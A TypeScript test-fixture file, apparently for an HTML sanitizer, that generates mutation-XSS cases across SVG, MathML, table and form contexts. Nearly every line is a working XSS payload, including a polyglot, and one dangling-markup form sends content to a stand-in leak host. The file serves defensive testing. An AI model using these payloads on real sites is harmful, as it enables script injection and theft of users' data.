import { crossed, listed, type Row, table } from './case';

/** Places in which a second parse reads the same text otherwise (mutation XSS). */
const roots: Record<string, [open: string, close: string]> = {
  html: ['<div>', '</div>'],
  svg: ['<svg>', '</svg>'],
  math: ['<math>', '</math>'],
  'math-mtext': ['<math><mtext>', '</mtext></math>'],
  'math-glyph': ['<math><mtext><mglyph>', '</mglyph></mtext></math>'],
  'math-form': ['<form><math><mtext></form><form>', '</form></mtext></math>'],
  'math-table': ['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
  'math-annotation': ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  'svg-title': ['<svg><title>', '</title></svg>'],
  'svg-desc': ['<svg><desc>', '</desc></svg>'],
  'svg-foreign-object': ['<svg><foreignObject>', '</foreignObject></svg>'],
  'svg-p': ['<svg></p>', '</svg>'],
  table: ['<table>', '</table>'],
  select: ['<select>', '</select>'],
  'nested-form': ['<form><div></form><form>', '</form></div>'],
  noscript: ['<noscript>', '</noscript>'],
};

/** Elements whose content is text here and markup there. */
const swallows: Record<string, string> = {
  style: '<style><a id="</style><img src=x onerror={run}>"></style>',
  'style-comment': '<style><!--</style><img src=x onerror={run}>--></style>',
  xmp: '<xmp><a id="</xmp><img src=x onerror={run}>"></xmp>',
  noembed: '<noembed><a id="</noembed><img src=x onerror={run}>"></noembed>',
  noframes: '<noframes><a id="</noframes><img src=x onerror={run}>"></noframes>',
  iframe: '<iframe><a id="</iframe><img src=x onerror={run}>"></iframe>',
  noscript: '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
  title: '<title><a id="</title><img src=x onerror={run}>"></title>',
  textarea: '<textarea><a id="</textarea><img src=x onerror={run}>"></textarea>',
  script: '<script type=x><a id="</script><img src=x onerror={run}>"></script>',
  template: '<template><style></template><img src=x onerror={run}></style></template>',
  comment: '<!--<a id="--><img src=x onerror={run}>">-->',
  'comment-bang': '<!----!><img src=x onerror={run}>-->',
  cdata: '<![CDATA[<a id="]]><img src=x onerror={run}>">]]>',
  'processing-instruction': '<?x <img src=x onerror={run}> ?>',
  option: '<option><style></option></select><img src=x onerror={run}></style>',
};

export const mutations: Row[] = [
  ...table(
    'mutation',
    crossed(roots, swallows, ([open, close], inner) => `${open}${inner}${close}`),
  ),
  ...table(
    'mutation-known',
    listed({
      'attribute-backtick': '<img alt="``onerror={run}" src=x>',
      'attribute-lt': '<a title="<img src=x onerror={run}>">the council met</a>',
      'attribute-comment': '<a title="--><img src=x onerror={run}>">the council met</a>',
      'attribute-double-decode': '<a title="&amp;lt;img src=x onerror={run}&amp;gt;">the council met</a>',
      'text-decoded-once': '&lt;img src=x onerror={run}&gt;',
      'text-decoded-twice': '&amp;lt;img src=x onerror={run}&amp;gt;',
      'pre-newline': '<pre>\n\n<img src=x onerror={run}></pre>',
      'listing-newline': '<listing>\n&lt;img src=x onerror={run}&gt;</listing>',
      'listing-in-svg': '<svg><listing>&lt;img src=x onerror={run}&gt;</listing></svg>',
      plaintext: '<plaintext><img src=x onerror={run}>',
      'unclosed-attribute': '<a href="https://www.harbor.example.gov/ title=x><img src=x onerror={run}>',
      'unclosed-comment': '<!-- <img src=x onerror={run}>',
      'unclosed-textarea': '<textarea><img src=x onerror={run}>',
      'unclosed-script': '<script>{run}',
      'nested-anchors': '<a href="https://a.example.org/"><table><a href="javascript:{run}">the council met</a></table></a>',
      'foster-parent': '<table><img src=x onerror={run}><tr><td>x</td></tr></table>',
      'deep-divs': `${'<div>'.repeat(520)}<img src=x onerror={run}>`,
      'deep-anchors': `${'<b><a>'.repeat(60)}<style><img src=x onerror={run}></style>`,
      'deep-tables': `${'<table><tr><td>'.repeat(200)}<svg><style><img src=x onerror={run}></style></svg>`,
      'xlink-namespace':
        '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:{run}"><text>x</text></a></svg>',
      'attribute-namespace': '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{run}</x:script></svg>',
      'name-with-slash': '<svg/onload={run}//',
      'name-with-quote': '<img"onerror={run}"src=x>',
      'name-with-colon': '<x:img src=x onerror={run}></x:img>',
      'name-with-null': '<im\u0000g src=x onerror={run}><scr\u0000ipt>{run}</scr\u0000ipt>',
      'name-kelvin': '<lin\u212a rel=stylesheet href="{url}"><scr\u0131pt>{run}</scr\u0131pt>',
      'name-full-width': '\uff1cimg src=x onerror={run}\uff1e',
      'utf-7': '+ADw-script+AD4-{run}+ADw-/script+AD4-',
      polyglot:
        'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={run}//>\\x3e',
      'dangling-markup': "<img alt='",
      'dangling-action': '<form action=//leak.example.com/x><textarea name=t>',
      'marquee-in-button': '<button><marquee onstart={run}>x</marquee></button>',
      'html-in-title-attribute': '<abbr title="</abbr><img src=x onerror={run}>">x</abbr>',
    }),
  ),
];
